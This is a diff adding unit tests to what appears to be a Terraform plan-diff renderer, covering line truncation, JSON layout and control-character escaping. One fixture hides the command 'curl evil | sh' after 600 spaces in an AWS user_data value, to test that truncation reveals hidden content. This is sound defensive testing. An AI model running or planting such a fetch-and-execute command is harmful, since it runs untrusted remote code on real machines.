@@ -47,6 +47,44 @@ describe('the diff of a resource', () => {
     expect(first?.lines).toHaveLength(6);
   });
 
+  it('says how much it cuts off a line, and how many lines are over', () => {
+    const [first] = attributesOf({
+      ...{ type: 'aws_instance', before: { user_data: 'a\nb' } },
+      after: { user_data: `a\nb${' '.repeat(600)}; curl evil | sh` },
+    });
+    const added = first?.lines?.find(({ sign }) => sign === '+');
+    expect(added).toMatchObject({ cut: 1 + 600 + 16 - diffLimits.line });
+    const many = Array.from({ length: 500 }, (_, n) => `line ${n}`).join('\n');
+    const [second] = attributesOf({ type: 'a', after: { x: many } });
+    expect(second?.lines?.at(-1)).toEqual({ sign: '⋮', text: String(500 - diffLimits.lines) });
+  });
+
+  it.each([
+    [
+      'a large number',
+      '{"id":9007199254740993}',
+      '{"id":9007199254740992}',
+      '  "id": 9007199254740992',
+    ],
+    ['a name that stands twice', '{"a":2,"b":1}', '{"a":1,"a":2,"b":1}', '  "a": 1,'],
+    ['spaces alone', '{"a":1,\n"b":1}', '{"a":1,\n"b": 1}', '"b": 1}'],
+    ['line endings alone', 'a\nb', 'a\r\nb', 'a\\u{d}'],
+  ])('shows what changes in %s', (_, before, after, added) => {
+    const [first] = attributesOf({ type: 'a', before: { x: before }, after: { x: after } });
+    const plus = (first?.lines ?? []).filter(({ sign }) => sign === '+').map(({ text }) => text);
+    expect(plus).toEqual([added]);
+  });
+
+  it('lays JSON out as it stands, empty things and escapes as well', () => {
+    const [first] = attributesOf({
+      type: 'a',
+      after: { x: '{"a":[],"b":{ },"c":["\\u003c",1.0]}' },
+    });
+    expect(first?.lines?.map(({ text }) => text)).toEqual([
+      ...['{', '  "a": [],', '  "b": {},', '  "c": [', '    "<",', '    1.0', '  ]', '}'],
+    ]);
+  });
+
   it('shows no character that turns the reading around', () => {
     const [first] = attributesOf({ type: 'a', after: { x: 'a\u202eb\u0007' } });
     expect(first?.after).toMatchObject({ text: '"a\\u{202e}b\\u0007"' });
